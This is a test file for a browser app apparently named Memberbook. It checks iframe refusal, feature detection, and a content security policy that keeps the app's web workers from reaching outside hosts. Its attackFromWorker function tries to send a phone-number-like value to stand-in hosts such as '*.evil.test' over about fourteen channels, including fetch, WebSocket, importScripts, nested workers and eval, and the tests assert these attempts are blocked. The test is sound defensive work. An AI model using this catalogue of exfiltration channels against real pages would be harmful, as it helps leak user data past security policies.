import { createServer } from 'node:http';
import { describe, expect, it } from 'vitest';
import { engineReady, rememberWorkers } from './engine-door.ts';
import { workerChannels } from './channels.ts';
import type { AppCopy } from './weakened-app.ts';

/** Where the app runs and where it refuses to. */
export function describePlaces(theApp: () => AppCopy): void {
  describe('the app', () => {
    it('does not run in another page’s frame, and says so', async () => {
      const app = theApp();
      const asked = app.requests.length;
      const outer = createServer((_, response) => {
        response.setHeader('Content-Type', 'text/html');
        response.end(
          `<iframe src="${app.address}?lang=en#demo" width="900" height="600"></iframe>`,
        );
      });
      await new Promise<void>((resolve) => outer.listen(0, '127.0.0.1', resolve));
      const address = outer.address();
      const port = typeof address === 'object' && address ? address.port : 0;
      const page = await app.browser.newPage();
      await page.goto(`http://localhost:${String(port)}/`);
      const frame = page.frameLocator('iframe');
      await frame.getByText('does not run inside another page').waitFor();
      expect(await frame.getByRole('button').count()).toBe(0);
      await page.waitForTimeout(600);
      expect(page.workers()).toEqual([]);
      expect(app.requests.slice(asked).filter((url) => /worker|wasm|samples/.test(url))).toEqual(
        [],
      );
      await page.close();
      outer.close();
    });

    it.each([
      ['Worker', 'web workers'],
      ['WebAssembly', 'WebAssembly with exceptions'],
      ['HTMLDialogElement', 'dialog elements'],
    ])('says what is missing in a browser without %s', async (name, words) => {
      const { page, close } = await theApp().open('?lang=en', {}, async (empty) => {
        await empty.addInitScript((missing) => Reflect.deleteProperty(window, missing), name);
      });
      await page.getByRole('heading', { name: 'Memberbook cannot run in this browser' }).waitFor();
      expect(await page.getByRole('listitem').allInnerTexts()).toContain(words);
      expect(page.workers()).toEqual([]);
      await close();
    });
  });

  describe(`the engine’s worker and the one that reads files, by ${String(workerChannels.length)} channels`, () => {
    it('run from blobs, from which no stranger can be reached', async () => {
      const app = theApp();
      expect(await reachedFromWorkers(app, '')).toEqual({ sources: ['blob:', 'blob:'], out: [] });
    });

    it('would reach one without the policy', async () => {
      const app = theApp();
      const { out } = await reachedFromWorkers(app, await app.weaken({ policy: true }));
      expect(out.length).toBeGreaterThan(workerChannels.length);
    });
  });
}

async function reachedFromWorkers(app: AppCopy, path: string) {
  const heard = app.leaks.length;
  const { page, close } = await app.open(path, {}, rememberWorkers);
  await engineReady(page);
  const small = { name: 'a.csv', mimeType: 'text/csv', buffer: Buffer.from('a,b\n1,2\n') };
  await page.getByLabel('Open files').first().setInputFiles(small);
  await expect.poll(() => page.workers().length).toBe(2);
  const sources = page.workers().map((worker) => new URL(worker.url()).protocol);
  for (const [at, worker] of page.workers().entries()) {
    await worker.evaluate(attackFromWorker, `worker-${String(at)}`);
  }
  await page.waitForTimeout(800);
  await close();
  const leaks = app.leaks.slice(heard);
  const out = workerChannels.flatMap((channel) =>
    [0, 1]
      .map((at) => `${channel}.worker-${String(at)}.evil.test`)
      .filter((host) => leaks.some((leak) => leak.includes(host))),
  );
  return { sources, out };
}

/** Each from a timer: what is evaluated directly is not under the policy. Runs in a worker. */
function attackFromWorker(own: string): void {
  const to = (channel: string): string => `http://${channel}.${own}.evil.test/x?p=13800000000`;
  const blobOf = (text: string): string =>
    URL.createObjectURL(new Blob([text], { type: 'text/javascript' }));
  const scope = self as unknown as {
    WebSocketStream: new (url: string) => unknown;
    fonts: { add(face: FontFace): void };
    importScripts(url: string): void;
  };
  const ways: Record<(typeof workerChannels)[number], () => unknown> = {
    fetch: () => fetch(to('fetch')),
    post: () => fetch(to('post'), { mode: 'no-cors', method: 'POST', body: 'p' }),
    xhr: () => {
      const request = new XMLHttpRequest();
      request.open('GET', to('xhr'), false);
      request.send();
    },
    websocket: () => new WebSocket(to('websocket').replace('http', 'ws')),
    'websocket-stream': () =>
      new scope.WebSocketStream(to('websocket-stream').replace('http', 'ws')),
    'event-source': () => new EventSource(to('event-source')),
    'web-transport': () => new WebTransport(to('web-transport').replace('http', 'https')),
    cache: async () => (await caches.open('x')).add(to('cache')),
    font: () => new FontFace('x', `url(${to('font')})`).load(),
    import: () => import(/* @vite-ignore */ to('import')),
    'import-scripts': () => scope.importScripts(to('import-scripts')),
    worker: () => new Worker(to('worker')),
    'worker-of-blob': () => new Worker(blobOf(`fetch(${JSON.stringify(to('worker-of-blob'))})`)),
    eval: () => (0, eval)(`fetch(${JSON.stringify(to('eval'))})`) as unknown,
  };
  for (const way of Object.values(ways)) {
    setTimeout(async () => {
      try {
        await way();
      } catch {
        // Refused.
      }
    });
  }
}
